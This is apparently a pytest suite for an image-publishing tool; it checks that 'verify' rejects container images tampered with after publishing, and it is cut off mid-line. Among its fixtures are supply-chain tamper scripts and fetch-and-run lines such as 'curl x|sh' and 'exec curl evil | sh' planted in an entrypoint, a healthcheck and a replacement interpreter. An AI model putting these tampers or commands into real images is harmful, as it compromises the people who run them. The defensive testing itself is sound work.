"""`invoke publish` and `invoke verify` against a real registry, with buildah, podman and docker.

A docker-registry on a free loopback port (started and stopped here) receives
each engine's sniper image under a namespace of that engine; verify fetches
it back with skopeo (no engine, nothing run) and checks it against the
project's lock.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import containers
from tests import registry as registries
from tests.containers import Registry
from tests.images import NAME, build_with, copy_project, git_commit, run
from tests.registry import RefusingRegistry, free_port

pytestmark = [pytest.mark.container, pytest.mark.network, pytest.mark.slow]

SITE = "/opt/venv/lib/python3.11/site-packages"
PINNED = re.compile(r"^(?P<repository>\S+)@(?P<digest>sha256:[0-9a-f]{64})$")
# What verify says of an image pushed again with one more layer, whatever the layer holds.
EXTRA_LAYER = (
    "6 layers above the base, the Dockerfile makes 5: the image has layers no build of this "
    "Dockerfile makes"
)


@pytest.fixture(scope="module")
def registry() -> Iterator[Registry]:
    missing = [tool for tool in ("docker-registry", "skopeo") if shutil.which(tool) is None]
    if missing:
        pytest.skip(f"needs {' and '.join(missing)} (`.ci/run` installs them as root with apt)")
    started = Registry()
    try:
        yield started
    finally:
        started.stop()


@pytest.fixture(scope="module")
def committed(image_project: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Baked, locked and committed: a release as a team would tag it."""
    return copy_project(image_project, tmp_path_factory.mktemp("ship"))


@pytest.fixture(scope="module")
def published(
    committed: Path,
    engine: containers.Engine,
    registry: Registry,
    ca_bundle: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> dict[str, str]:
    """The sniper image built on the pinned base and published by `engine`: the project, its
    output, the reference, the base."""
    project = copy_project(committed, tmp_path_factory.mktemp(engine.name))
    base = pin_base(engine, registry, project)
    build_with(engine, project, ca_bundle, "--tier", "sniper", base=base)
    namespace = f"{registry.host}/{engine.name}"
    result = run(
        project, "invoke", "publish", "--tier", "sniper", "--registry", namespace, env=engine.env
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return {
        "project": str(project),
        "stdout": result.stdout,
        "reference": result.stdout.strip().splitlines()[-1],
        "repository": f"{namespace}/{NAME}",
        "base": base,
    }


def push_base(engine: containers.Engine, registry: Registry, image: str, name: str) -> str:
    """`image` pushed to the registry as `name` and pulled back by digest: REFERENCE@DIGEST."""
    reference = f"{registry.host}/{engine.name}-base/{name}"
    if engine.name == "docker":
        engine.cli("tag", image, reference)
        engine.cli("push", reference)
    else:
        engine.cli("push", "--tls-verify=false", image, f"docker://{reference}")
    pinned = f"{reference}@{registries.digest(reference)}"
    tls = [] if engine.name == "docker" else ["--tls-verify=false"]
    engine.cli("pull", *tls, pinned)
    return pinned


def pin_base(engine: containers.Engine, registry: Registry, project: Path) -> str:
    """The test base image, pushed to the registry, as the project's base-images.lock pins it
    for every tier (committed): what verify fetches to compare the image's lowest layers."""
    base = engine.ensure_base("3.11")
    pinned = push_base(engine, registry, base, base.rpartition("/")[2])
    reference = pinned.partition("@")[0]
    with (project / "pyproject.toml").open("a") as pyproject:
        pyproject.write(f'\n[tool.lockstep.base-images]\nsniper = "{reference}"\n')
    (project / "base-images.lock").write_text(f"{pinned}\n")
    git_commit(project)
    return pinned


def verify(
    engine: containers.Engine, project: Path, *arguments: str
) -> subprocess.CompletedProcess[str]:
    return run(project, "invoke", "verify", "--engine", engine.name, *arguments, env=engine.env)


def head(project: Path) -> str:
    shown = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=project, capture_output=True, text=True, check=True
    )
    return shown.stdout.strip()


def test_publish_pushes_the_smoke_tested_image_by_digest_and_records_it(
    published: dict[str, str], engine: containers.Engine, registry: Registry
) -> None:
    project = Path(published["project"])
    pinned = PINNED.match(published["reference"])
    assert pinned, published["stdout"][-2000:]
    repository, digest = pinned["repository"], pinned["digest"]
    assert repository == published["repository"]
    output = published["stdout"]
    assert f"{NAME}:sniper: HEALTHCHECK /opt/venv/bin/{NAME} health: exit 0" in output
    assert re.search(rf"{NAME}:sniper: exactly requirements/sniper.txt: \d+ distributions", output)

    commit = head(project)
    # Both tags name the one manifest the last line pins.
    assert registries.digest(f"{repository}:sniper") == digest
    assert registries.digest(f"{repository}:sniper-{commit}") == digest

    lock = project / "requirements" / "sniper.txt"
    lock_digest = "sha256:" + hashlib.sha256(lock.read_bytes()).hexdigest()
    labels = registries.labels(f"{repository}:sniper")
    assert labels["lockstep.tier"] == "sniper"
    assert labels["lockstep.lock-digest"] == lock_digest
    assert labels["org.opencontainers.image.revision"] == commit
    assert labels["org.opencontainers.image.version"] == "0.1.0"
    assert labels["org.opencontainers.image.base.name"] == published["base"]

    record = json.loads((project / "dist" / "images" / "sniper.json").read_text())
    epoch = subprocess.run(
        ["git", "log", "-1", "--format=%ct"], cwd=project, capture_output=True, text=True
    ).stdout.strip()
    assert record["reference"] == published["reference"]
    assert record["image_id"] == engine.inspect(f"{NAME}:sniper")["id"]
    assert record["lock_digest"] == lock_digest
    assert record["commit"] == commit
    assert record["source_date_epoch"] == epoch
    assert record["base_image"] == published["base"]
    assert record["base_image_digest"] == published["base"].partition("@")[2]

    sbom = json.loads((project / "dist" / "images" / "sniper.cdx.json").read_text())
    assert sbom["bomFormat"] == "CycloneDX"
    assert sbom["metadata"]["component"]["version"] == digest
    listed = {(c["name"], c["version"]) for c in sbom["components"]}
    pins = re.findall(r"^([a-z0-9-]+)==(\S+)", lock.read_text(), re.M)
    assert set(pins) <= listed and (NAME, "0.1.0") in listed
    assert "SBOM of" in output and "matches its lock's" in output


def test_verify_fetches_the_image_and_proves_the_lock_without_running_it(
    published: dict[str, str], engine: containers.Engine
) -> None:
    project = Path(published["project"])
    tagged = f"{published['repository']}:sniper"
    if engine.name == "docker":  # publishing tagged these in the daemon: start without them
        commit = head(project)
        engine.cli("rmi", tagged, f"{tagged}-{commit}")
    for reference in (published["reference"], tagged):
        result = verify(engine, project, "--image", reference)
        assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
        lines = result.stdout.strip().splitlines()
        digest = published["reference"].partition("@")[2]
        assert lines[-1] == (
            f"verified {reference}: {digest} is exactly requirements/sniper.txt "
            f"of commit {head(project)}"
        )
        fetched = "with skopeo into a temporary folder (nothing is run)"
        assert f"fetched {reference} {fetched}: {digest}" in result.stdout
        assert f"{reference}: user: uid 1000" in result.stdout
        assert f"{reference}: HEALTHCHECK /opt/venv/bin/{NAME} health" in result.stdout
        base = published["base"]
        exactly = f"{reference}: config: exactly what the Dockerfile makes of the base image"
        assert f"{exactly} {base}" in result.stdout
        # Nothing pulled stays behind in the engine's usual store.
        assert not engine.has_image(reference)


def committed_copy(project: Path, folder: Path, change: Callable[[Path], None]) -> tuple[Path, str]:
    """A copy of the published project with `change` made in it and committed: (copy, commit)."""
    copy = folder / project.name
    shutil.copytree(project, copy, symlinks=True, ignore=shutil.ignore_patterns(".nox"))
    change(copy)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "add", "--all"], cwd=copy, check=True, capture_output=True)
    subprocess.run([*git, "commit", "-qm", "later"], cwd=copy, check=True, capture_output=True)
    return copy, head(copy)


@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the checkout is the subject
def test_verify_checks_the_commit_never_the_work_tree(
    published: dict[str, str], engine: containers.Engine, tmp_path: Path
) -> None:
    project, reference = Path(published["project"]), published["reference"]
    built_from = head(project)
    verified = (
        f"verified {reference}: {reference.partition('@')[2]} is exactly "
        f"requirements/sniper.txt of commit {built_from}"
    )
    # An uncommitted edit of the app's sources changes nothing verify expects.
    source = project / "src" / "image_check" / "cli.py"
    kept = source.read_text()
    try:
        source.write_text(kept + "print('not committed')\n")
        dirty = verify(engine, project, "--image", reference)
        assert dirty.returncode == 0, dirty.stdout[-2000:] + dirty.stderr[-2000:]
        assert (
            f"verify checks commit {built_from} (HEAD) and ignores the work tree's 1 "
            "uncommitted change(s) (git status)"
        ) in dirty.stdout
        assert dirty.stdout.strip().splitlines()[-1] == verified
        # --rebuild would build the work tree, not the commit: refused before building.
        assert one_line(verify(engine, project, "--image", reference, "--rebuild")) == (
            "error: --rebuild builds the work tree, whose uncommitted changes are not commit "
            f"{built_from}: commit or stash them, then verify with --rebuild again"
        )
    finally:
        source.write_text(kept)

    # A later commit, even one the image would not show, is another commit.
    later, commit = committed_copy(
        project, tmp_path, lambda copy: (copy / "NOTES.txt").write_text("notes\n")
    )
    assert one_line(verify(engine, later, "--image", reference)) == (
        f"error: {reference} was built from commit {built_from}, and verify checks commit "
        f"{commit} (HEAD): run `git checkout {built_from}`, then verify again"
    )
    subprocess.run(["git", "checkout", "-q", built_from], cwd=later, check=True)
    again = verify(engine, later, "--image", reference)
    assert again.returncode == 0, again.stdout[-2000:] + again.stderr[-2000:]
    assert again.stdout.strip().splitlines()[-1] == verified

    # Not a git checkout: one line.
    shutil.rmtree(later / ".git")
    assert one_line(verify(engine, later, "--image", reference)) == (
        f"error: {later} is not a git checkout: verify checks an image against a commit, "
        "so run it in a clone of the project's repository"
    )


def test_rebuild_from_the_commit_gives_the_published_image_id(
    published: dict[str, str], engine: containers.Engine
) -> None:
    project = Path(published["project"])
    result = verify(engine, project, "--image", published["reference"], "--rebuild")
    output = result.stdout + result.stderr
    assert result.returncode == 0, output[-3000:]
    published_id = engine.inspect(f"{NAME}:sniper")["id"]
    assert f"rebuilt from this commit: image ID {published_id}, the same as" in result.stdout
    if engine.name == "docker":  # the same, from its build cache; a cold rebuild would differ
        assert "image IDs differ between builds of one commit" in output


def push_directly(engine: containers.Engine, image: str, reference: str) -> None:
    """What a compromised pipeline could do: push whatever it holds, no checks."""
    if engine.name == "docker":
        engine.cli("tag", image, reference)
        engine.cli("push", reference)
        engine.cli("rmi", reference)
    else:
        engine.cli("push", "--tls-verify=false", "--format", "v2s2", image, f"docker://{reference}")


def test_a_changed_image_under_the_same_tag_fails_and_the_digest_still_verifies(
    published: dict[str, str], engine: containers.Engine, registry: Registry
) -> None:
    project = Path(published["project"])
    tagged = f"{published['repository']}:sniper"
    image = f"{NAME}:sniper"
    original = engine.changed_image(image, f"echo 'print(1)' >> {SITE}/structlog/__init__.py")
    try:
        refused = run(
            project, "invoke", "publish", "--tier", "sniper", "--engine", engine.name,
            "--registry", f"{registry.host}/{engine.name}", env=engine.env,
        )  # fmt: skip
        assert refused.returncode == 1
        assert refused.stderr.startswith(f"error: not published: {image} fails its smoke test")
        assert "structlog: structlog/__init__.py does not match its RECORD hash" in refused.stderr
        assert registries.digest(tagged) == published["reference"].partition("@")[2]
        push_directly(engine, image, tagged)
    finally:
        engine.restore(original, image)
    assert registries.digest(tagged) != published["reference"].partition("@")[2]

    by_tag = verify(engine, project, "--image", tagged)
    assert by_tag.returncode == 1
    lines = by_tag.stderr.strip().splitlines()
    changed = f"error: {tagged}: {SITE}/structlog/__init__.py: changed (sha256 "
    assert any(line.startswith(changed) for line in lines), lines
    # The engine's commit of the tampering may also have changed the config (user 0, no
    # HEALTHCHECK in an OCI commit): named too, one line each, about this image only.
    assert all(line.startswith(f"error: {tagged}: ") for line in lines), lines
    by_digest = verify(engine, project, "--image", published["reference"])
    assert by_digest.returncode == 0, by_digest.stdout[-2000:] + by_digest.stderr[-2000:]


def layer_of(*members: tuple[str, bytes | str]) -> bytes:
    """A tar layer: bytes are a file's, a str is a symbolic link's target."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            if isinstance(content, str):
                info.type, info.linkname = tarfile.SYMTYPE, content
                archive.addfile(info)
            else:
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def push_with_layer(source: str, target: str, layer: bytes, folder: Path) -> None:
    """`source` pushed again as `target` with one more layer: what push rights allow."""
    diff_id = f"sha256:{hashlib.sha256(layer).hexdigest()}"
    push_with_blob(source, target, gzip.compress(layer, mtime=0), diff_id, folder)


def push_with_blob(
    source: str, target: str, blob: bytes, diff_id: str, folder: Path, replace_last: bool = False
) -> None:
    """`source` pushed again as `target` with one more gzip layer `blob`, of tar `diff_id`
    (or with `blob` instead of its last layer)."""
    skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false", "--dest-tls-verify=false"]
    subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder}"], check=True)
    manifest = json.loads((folder / "manifest.json").read_text())
    config_path = folder / manifest["config"]["digest"].removeprefix("sha256:")
    config = json.loads(config_path.read_text())
    if replace_last:
        config["rootfs"]["diff_ids"].pop()
        manifest["layers"].pop()
    else:
        config.setdefault("history", []).append({"created_by": "one more layer"})
    config["rootfs"]["diff_ids"].append(diff_id)
    blobs = {"config": json.dumps(config).encode(), "layer": blob}
    for each in blobs.values():
        (folder / hashlib.sha256(each).hexdigest()).write_bytes(each)
    digests = {kind: f"sha256:{hashlib.sha256(each).hexdigest()}" for kind, each in blobs.items()}
    manifest["config"].update(digest=digests["config"], size=len(blobs["config"]))
    manifest["layers"].append(
        {
            "mediaType": manifest["layers"][-1]["mediaType"],
            "digest": digests["layer"],
            "size": len(blob),
        }
    )
    (folder / "manifest.json").write_text(json.dumps(manifest))
    subprocess.run([*skopeo, f"dir:{folder}", f"docker://{target}"], check=True)


def push_with_last_layer_grown(source: str, target: str, members: bytes, folder: Path) -> None:
    """`source` pushed again as `target`, the tar `members` added to its last layer: as many
    layers as the Dockerfile makes, one of them carrying more."""
    skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false"]
    folder.mkdir()
    subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder / 'source'}"], check=True)
    manifest = json.loads((folder / "source" / "manifest.json").read_text())
    last = folder / "source" / manifest["layers"][-1]["digest"].removeprefix("sha256:")
    buffer = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(gzip.decompress(last.read_bytes()))) as old,
        tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as new,
        tarfile.open(fileobj=io.BytesIO(members)) as added,
    ):
        for archive in (old, added):
            for member in archive:
                new.addfile(member, archive.extractfile(member) if member.isreg() else None)
    layer = buffer.getvalue()
    diff_id = f"sha256:{hashlib.sha256(layer).hexdigest()}"
    blob = gzip.compress(layer, mtime=0)
    push_with_blob(source, target, blob, diff_id, folder / "target", replace_last=True)


def zeros_blob(name: str, size: int) -> tuple[bytes, str]:
    """(a gzip layer of one file of `size` zeros, its tar's digest): about size/1000 bytes.

    One gzip member per 64 MiB of zeros, concatenated; engines read them as one stream.
    """
    info = tarfile.TarInfo(name)
    info.size = size
    header = info.tobuf(format=tarfile.PAX_FORMAT)
    chunk = 64 << 20
    assert size % chunk == 0
    ending = bytes(1024)  # the end of the archive
    digest = hashlib.sha256(header)
    zeros = bytes(chunk)
    for _ in range(size // chunk):
        digest.update(zeros)
    digest.update(ending)
    blob = b"".join(
        [
            gzip.compress(header, mtime=0),
            gzip.compress(zeros, mtime=0) * (size // chunk),
            gzip.compress(ending, mtime=0),
        ]
    )
    return blob, f"sha256:{digest.hexdigest()}"


MEASURED = """
import resource, subprocess, sys
result = subprocess.run(sys.argv[1:], capture_output=True, text=True)
sys.stdout.write(result.stdout)
sys.stderr.write(result.stderr)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)  # KiB, the largest process
sys.exit(result.returncode)
"""


def test_a_huge_zero_filled_file_is_read_in_little_memory(
    published: dict[str, str], engine: containers.Engine, tmp_path: Path
) -> None:
    project = Path(published["project"])
    tampered = f"{published['repository']}:zeros"
    blob, diff_id = zeros_blob(f"{SITE}/zeros.bin", 2 << 30)
    assert len(blob) < 4 << 20
    push_with_blob(published["reference"], tampered, blob, diff_id, tmp_path / "zeros")
    measured = [sys.executable, "-c", MEASURED, "invoke", "verify", "--image", tampered]
    result = run(project, *measured, env=engine.env)
    assert result.returncode == 1, result.stdout[-2000:] + result.stderr[-2000:]
    assert result.stderr == (
        f"error: {tampered}: {SITE}/zeros.bin: a file no locked wheel holds\n"
        f"error: {tampered}: {EXTRA_LAYER}\n"
    )
    peak_kib = int(result.stdout.strip().splitlines()[-1])
    assert peak_kib < 512 << 10  # a 2 GiB file held in memory would need four times this


# Names an engine extracts into site-packages, however the layer spells them.
PATH_TRICKS = {
    "dot-dot": layer_of((f"..{SITE}/evil.pth", b"import sys\n")),
    "rooted-dot-dot": layer_of((f"/..{SITE}/evil.pth", b"import sys\n")),
    "through-a-link": layer_of(("usr/share/x", SITE), ("usr/share/x/evil.pth", b"import sys\n")),
}


def test_a_layer_that_names_site_packages_in_another_way_is_refused(
    published: dict[str, str], engine: containers.Engine, tmp_path: Path
) -> None:
    project = Path(published["project"])
    for trick, layer in PATH_TRICKS.items():
        tampered = f"{published['repository']}:{trick}"
        push_with_layer(published["reference"], tampered, layer, tmp_path / trick)
        errors = verify(engine, project, "--image", tampered).stderr.strip().splitlines()
        assert errors[:2] == [
            f"error: {tampered}: {SITE}/evil.pth: a .pth file no locked wheel holds "
            "(Python runs it at every start)",
            f"error: {tampered}: {EXTRA_LAYER}",
        ], trick
        # The link itself is no file of the base's, nor any the Dockerfile makes.
        links = [f"error: {tampered}: /usr/share/x: a symlink no layer of the Dockerfile makes"]
        assert errors[2:] == (links if trick == "through-a-link" else []), trick


def one_line(result: subprocess.CompletedProcess[str]) -> str:
    assert result.returncode == 1, result.stdout[-2000:] + result.stderr[-2000:]
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]


def test_failures_are_one_line_each(
    published: dict[str, str], engine: containers.Engine, registry: Registry
) -> None:
    project = Path(published["project"])
    reference = published["reference"]
    repository = published["repository"]

    down = f"127.0.0.1:{free_port()}"
    assert (
        one_line(
            run(
                project, "invoke", "publish", "--tier", "sniper", "--registry", down, env=engine.env
            )
        )
        == f"error: cannot push to {down}/{NAME}:sniper: the registry {down} does not answer"
    )
    assert one_line(verify(engine, project, "--image", f"{down}/{NAME}:sniper")) == (
        f"error: cannot pull {down}/{NAME}:sniper: the registry {down} does not answer"
    )

    assert one_line(verify(engine, project, "--image", reference, "--tier", "hunter")) == (
        f"error: {reference} is the sniper image, not hunter"
    )
    unknown = f"{repository}@sha256:{'0' * 64}"
    assert one_line(verify(engine, project, "--image", unknown)) == (
        f"error: cannot pull {unknown}: {unknown} is not in the registry"
    )

    refusing = RefusingRegistry()
    publish = ["invoke", "publish", "--tier", "sniper", "--registry", refusing.host]
    try:
        refused = one_line(run(project, *publish, env=engine.env))
    finally:
        refusing.stop()
    login = f"{engine.name} login"
    assert refused.startswith(
        f"error: cannot push to {refusing.host}/{NAME}:sniper: {refusing.host} refused the "
        f"credentials: log in with `{login} {refusing.host}`"
    ), refused


def test_publish_pushes_nothing_it_cannot_record(
    published: dict[str, str], engine: containers.Engine, registry: Registry
) -> None:
    project = Path(published["project"])
    records = project / "dist" / "images"
    kept = records.with_name("images.kept")
    records.rename(kept)
    records.write_text("")  # a file where the records go
    namespace = f"{registry.host}/{engine.name}-unrecorded"
    try:
        result = run(
            project, "invoke", "publish", "--tier", "sniper", "--registry", namespace,
            env=engine.env,
        )  # fmt: skip
    finally:
        records.unlink()
        kept.rename(records)
    assert one_line(result).startswith("error: not published: dist/images is a file"), result.stderr
    assert "pushed" not in result.stdout
    looked_up = subprocess.run(
        ["skopeo", "inspect", "--tls-verify=false", f"docker://{namespace}/{NAME}:sniper"],
        capture_output=True,
        check=False,
    )
    assert looked_up.returncode != 0


def test_bad_publish_and_verify_input_is_one_line(committed: Path) -> None:
    cases = [
        (
            ["publish", "--tier", "sniper", "--registry", "https://ghcr.io/acme"],
            "error: --registry: give HOST[:PORT][/NAMESPACE], without a scheme (drop https://)",
        ),
        (["publish", "--tier", "sniper"], "error: name the tier and the registry"),
        (
            ["publish", "--tier", "nope", "--registry", "127.0.0.1:5000"],
            "error: unknown tier 'nope'",
        ),
        (
            ["verify", "--image", "ship-check:sniper"],
            "error: --image: name the registry",
        ),
        (
            ["verify", "--image", "127.0.0.1:5000/ship-check@sha256:abc"],
            "error: --image 127.0.0.1:5000/...: the digest must be",
        ),
        (
            ["publish", "--tier", "sniper", "--registry", "alice:s3cr3tPAT@127.0.0.1:5000"],
            "error: --registry must not hold credentials (USER:TOKEN@): give HOST[:PORT]"
            "[/NAMESPACE] and log in once with `docker login 127.0.0.1:5000`",
        ),
        (
            ["verify", "--image", "user:s3cr3tPAT@127.0.0.1:5000/ship-check:sniper"],
            "error: --image must not hold credentials (USER:TOKEN@)",
        ),
        (
            ["verify", "--image", "127.0.0.1:5000/ship-check:sniper?token=s3cr3tPAT"],
            "error: --image must not hold a query string or fragment",
        ),
        (["verify"], "error: name the image"),
    ]
    for arguments, message in cases:
        result = run(committed, "invoke", *arguments)
        assert result.returncode == 1, arguments
        assert result.stderr.strip().startswith(message), (arguments, result.stderr)
        assert len(result.stderr.strip().splitlines()) == 1
        assert "s3cr3tPAT" not in result.stdout + result.stderr


@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the index is the subject
def test_an_image_index_is_verified_platform_by_platform(
    published: dict[str, str], engine: containers.Engine, registry: Registry
) -> None:
    """A good amd64 image beside an "arm64" one carrying evil.pth: the index is not verified."""
    project = Path(published["project"])
    repository = published["repository"]
    image = f"{NAME}:sniper"
    original = engine.changed_image(image, f"echo 'import os' > {SITE}/evil.pth")
    try:
        push_directly(engine, image, f"{repository}:tampered")
    finally:
        engine.restore(original, image)
    index = f"lockstep-index-{engine.name}"
    engine.cli("manifest", "rm", index, check=False)
    engine.cli("manifest", "create", index)
    try:
        tls = "--tls-verify=false"
        engine.cli("manifest", "add", tls, index, f"docker://{published['reference']}")
        engine.cli(
            "manifest", "add", tls, "--arch", "arm64", index, f"docker://{repository}:tampered"
        )
        engine.cli("manifest", "push", "--all", tls, index, f"docker://{repository}:multi")
    finally:
        engine.cli("manifest", "rm", index, check=False)

    every = verify(engine, project, "--image", f"{repository}:multi")
    assert every.returncode == 1, every.stdout[-2000:]
    assert "is an image index: checking linux/amd64, linux/arm64" in every.stdout
    errors = every.stderr.strip().splitlines()
    assert errors and all(
        line.startswith(f"error: {repository}:multi (linux/arm64): ") for line in errors
    )
    assert any("evil.pth" in line for line in errors), errors

    amd64 = verify(engine, project, "--image", f"{repository}:multi", "--platform", "linux/amd64")
    assert amd64.returncode == 0, amd64.stdout[-2000:] + amd64.stderr[-2000:]
    assert (
        amd64.stdout.strip()
        .splitlines()[-1]
        .startswith(f"verified {repository}:multi (linux/amd64): sha256:")
    )
    absent = verify(engine, project, "--image", f"{repository}:multi", "--platform", "linux/s390x")
    assert absent.returncode == 1
    assert absent.stderr.strip() == (
        f"error: {repository}:multi has no linux/s390x image: its index holds "
        "linux/amd64, linux/arm64"
    )


def in_image_python(script: str) -> str:
    """A shell line that runs the Python `script` with the image's own interpreter."""
    encoded = base64.b64encode(script.encode()).decode()
    return f"echo {encoded} | base64 -d | /opt/venv/bin/python -"


REWRITE_RECORD = f"""
import base64, hashlib, pathlib
site = pathlib.Path("{SITE}")
module = site / "structlog" / "__init__.py"
module.write_bytes(module.read_bytes() + b"print('owned')\\n")
record = next(site.glob("structlog-*.dist-info/RECORD"))
digest = base64.urlsafe_b64encode(hashlib.sha256(module.read_bytes()).digest()).rstrip(b"=")
row = f"structlog/__init__.py,sha256={{digest.decode()}},{{module.stat().st_size}}"
rows = [row if line.startswith("structlog/__init__.py,") else line
        for line in record.read_text().splitlines()]
record.write_text("\\n".join(rows) + "\\n")
"""
LISTED_PTH = f"""
import base64, hashlib, pathlib
site = pathlib.Path("{SITE}")
payload = b"import os\\n"
(site / "evil.pth").write_bytes(payload)
record = next(site.glob("structlog-*.dist-info/RECORD"))
digest = base64.urlsafe_b64encode(hashlib.sha256(payload).digest()).rstrip(b"=").decode()
record.write_text(record.read_text() + f"evil.pth,sha256={{digest}},{{len(payload)}}\\n")
"""
FORGED_PYC = f"""
import marshal, pathlib
pyc = pathlib.Path("{SITE}/structlog/__pycache__/__init__.cpython-311.pyc")
header = pyc.read_bytes()[:16]
pyc.write_bytes(header + marshal.dumps(compile("print('owned')", "x.py", "exec")))
"""
# Each way to change what runs that a RECORD, or its absence, hid: (script, the one line).
TAMPERS = {
    "record-rewritten": (
        in_image_python(REWRITE_RECORD),
        f"{SITE}/structlog/__init__.py: changed (sha256 ",
    ),
    "pth-in-record": (
        in_image_python(LISTED_PTH),
        f"{SITE}/evil.pth: a .pth file no locked wheel holds (Python runs it at every start)",
    ),
    "forged-pyc": (
        in_image_python(FORGED_PYC),
        f"{SITE}/structlog/__pycache__/__init__.cpython-311.pyc: bytecode that is not its "
        "source's (Python would run it, not the source)",
    ),
    "setuid": (
        f"chmod 4755 /opt/venv/bin/{NAME}",
        f"/opt/venv/bin/{NAME}: has the setuid bit (mode 4755)",
    ),
    "system-site-packages": (
        "sed -i 's/^include-system-site-packages = false$/include-system-site-packages = true/' "
        "/opt/venv/pyvenv.cfg",
        "/opt/venv/pyvenv.cfg: line 2 is 'include-system-site-packages = true', "
        "expected 'include-system-site-packages = false'",
    ),
}


@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the image is the subject
def test_an_image_is_proven_from_the_lock_not_from_what_it_says_of_itself(
    published: dict[str, str], engine: containers.Engine
) -> None:
    project = Path(published["project"])
    image = f"{NAME}:sniper"
    for name, (script, line) in TAMPERS.items():
        tampered = f"{published['repository']}:{name}"
        original = engine.changed_image(image, script)
        try:
            push_directly(engine, image, tampered)
        finally:
            engine.restore(original, image)
        result = verify(engine, project, "--image", tampered)
        assert result.returncode == 1, (name, result.stdout[-2000:])
        errors = result.stderr.strip().splitlines()
        made = f"error: {tampered}: {EXTRA_LAYER}"  # the tamper's own layer
        named = [error for error in errors if error != made]
        assert len(named) == 1, (name, errors)
        assert named[0].startswith(f"error: {tampered}: {line}"), (name, errors)
        assert "verified" not in result.stdout


def push_with_config(
    source: str, target: str, change: Callable[[dict[str, Any]], None], folder: Path
) -> None:
    """`source` pushed again as `target` with its config changed by `change`: layers untouched."""
    skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false", "--dest-tls-verify=false"]
    subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder}"], check=True)
    manifest = json.loads((folder / "manifest.json").read_text())
    config = json.loads((folder / manifest["config"]["digest"].removeprefix("sha256:")).read_text())
    change(config["config"])
    blob = json.dumps(config).encode()
    (folder / hashlib.sha256(blob).hexdigest()).write_bytes(blob)
    manifest["config"].update(digest=f"sha256:{hashlib.sha256(blob).hexdigest()}", size=len(blob))
    (folder / "manifest.json").write_text(json.dumps(manifest))
    subprocess.run([*skopeo, f"dir:{folder}", f"docker://{target}"], check=True)


# What push rights allow without touching a file: (the change to the config, the one line).
ENTRYPOINT = f"/opt/venv/bin/{NAME}"
CONFIG_TAMPERS: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    "pythonpath": (
        lambda config: config["Env"].append("PYTHONPATH=/tmp/x"),
        'config Env PYTHONPATH: expected (none), found "/tmp/x"',
    ),
    "wrapped-entrypoint": (
        lambda config: config.update(Entrypoint=["sh", "-c", f"curl x|sh; {ENTRYPOINT}"]),
        f'config Entrypoint: expected ["{ENTRYPOINT}"], '
        f'found ["sh", "-c", "curl x|sh; {ENTRYPOINT}"]',
    ),
    "healthcheck": (
        lambda config: config["Healthcheck"].update(Test=["CMD-SHELL", "curl x|sh"]),
        'config Healthcheck: expected {"Interval": 30000000000, "Retries": 3, '
        f'"StartPeriod": 5000000000, "Test": ["CMD", "{ENTRYPOINT}", "health"], '
        '"Timeout": 5000000000}, found {"Interval": 30000000000, "Retries": 3, '
        '"StartPeriod": 5000000000, "Test": ["CMD-SHELL", "curl x|sh"], "Timeout": 5000000000}',
    ),
    "workdir": (
        lambda config: config.update(WorkingDir="/tmp/x"),
        'config WorkingDir: expected (none), found "/tmp/x"',
    ),
}


@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the config is the subject
def test_a_config_other_than_the_dockerfile_makes_is_refused(
    published: dict[str, str], engine: containers.Engine, tmp_path: Path
) -> None:
    project = Path(published["project"])
    for name, (change, line) in CONFIG_TAMPERS.items():
        tampered = f"{published['repository']}:{name}"
        push_with_config(published["reference"], tampered, change, tmp_path / name)
        assert one_line(verify(engine, project, "--image", tampered)) == (
            f"error: {tampered}: {line}"
        ), name
    untouched = verify(engine, project, "--image", published["reference"])
    assert untouched.returncode == 0, untouched.stdout[-2000:] + untouched.stderr[-2000:]


BASE_SITE = "/usr/lib/python3/dist-packages"  # the base's python3 reads it (Debian)


@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the image is the subject
def test_outside_the_venv_only_the_pinned_base_and_the_dockerfile_s_layers_verify(
    published: dict[str, str], engine: containers.Engine, tmp_path: Path
) -> None:
    project = Path(published["project"])
    reference, repository, base = published["reference"], published["repository"], published["base"]
    good = verify(engine, project, "--image", reference)
    assert good.returncode == 0, good.stdout[-2000:] + good.stderr[-2000:]
    assert f"{reference}: its base layers (1) are {base}'s, as base-images.lock pins" in good.stdout

    pth = f"{repository}:base-pth"
    push_with_layer(
        reference, pth, layer_of((f"{BASE_SITE}/evil.pth", b"import os\n")), tmp_path / "pth"
    )
    assert verify(engine, project, "--image", pth).stderr.strip().splitlines() == [
        f"error: {pth}: {EXTRA_LAYER}",
        f"error: {pth}: {BASE_SITE}/evil.pth: a file no layer of the Dockerfile makes "
        "(Python runs it at every start)",
    ]
    # As many layers as the Dockerfile makes, the last one carrying another interpreter.
    interpreter = f"{repository}:interpreter"
    replaced = executable_layer("usr/bin/python3.11", b"#!/bin/sh\nexec curl evil | sh\n")
